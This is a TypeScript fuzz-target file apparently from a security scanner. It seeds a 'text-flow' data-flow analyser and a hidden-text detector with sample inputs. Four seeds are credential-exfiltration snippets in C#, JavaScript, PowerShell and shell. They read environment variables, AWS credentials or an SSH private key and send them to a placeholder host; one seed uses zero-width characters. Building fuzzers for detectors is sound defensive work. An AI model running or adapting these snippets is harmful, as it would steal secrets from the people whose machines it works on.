import { Buffer } from 'node:buffer';
import { followText, type DialectName } from '../../../src/behaviour/text-flow/index.js';
import { decodeSource } from '../../../src/core/source.js';
import { hiddenTexts } from '../../../src/formats/text/hidden.js';
import type { FuzzTarget } from '../target.js';

const dialects: readonly DialectName[] = [
  'csharp',
  'visualbasic',
  'javascript',
  'python',
  'powershell',
  'shell',
];

const texts = [
  `var t = new StringBuilder(); foreach (var e in Environment.GetEnvironmentVariables()) { t.Append(e); } Send(t); void Send(string x) { c.PostAsync("https://a.test", new StringContent(x)); }`,
  `const h=require('https').request({host:['a','test'].join('.')});const g=JSON.stringify({v:process.env});h.end(g)`,
  `$t = Get-Content "$HOME\\.aws\\credentials"; function S($x) { irm -Uri https://a.test -Body $x }; S $t`,
  'K=$(cat ~/.ssh/id_rsa)\nenv | base64 | curl -d "$K" https://a.test',
  'a\u200b\u200c\u200b\u200b\u2060\u200c\u200b'.repeat(10),
];

export const target: FuzzTarget = {
  name: 'text-flow',
  seeds: () => texts.map((text) => Buffer.from(text)),
  exercise(bytes) {
    const { text } = decodeSource(bytes);
    for (const dialect of dialects) followText(text, dialect);
    hiddenTexts(text);
  },
  dictionary: [
    'process.env',
    'fetch(',
    ' = ',
    '=>',
    'return ',
    'function f(',
    '.end(',
    '"',
    "'",
    '`',
    '/*',
    '\u200b',
    '\u{e0041}',
  ],
};
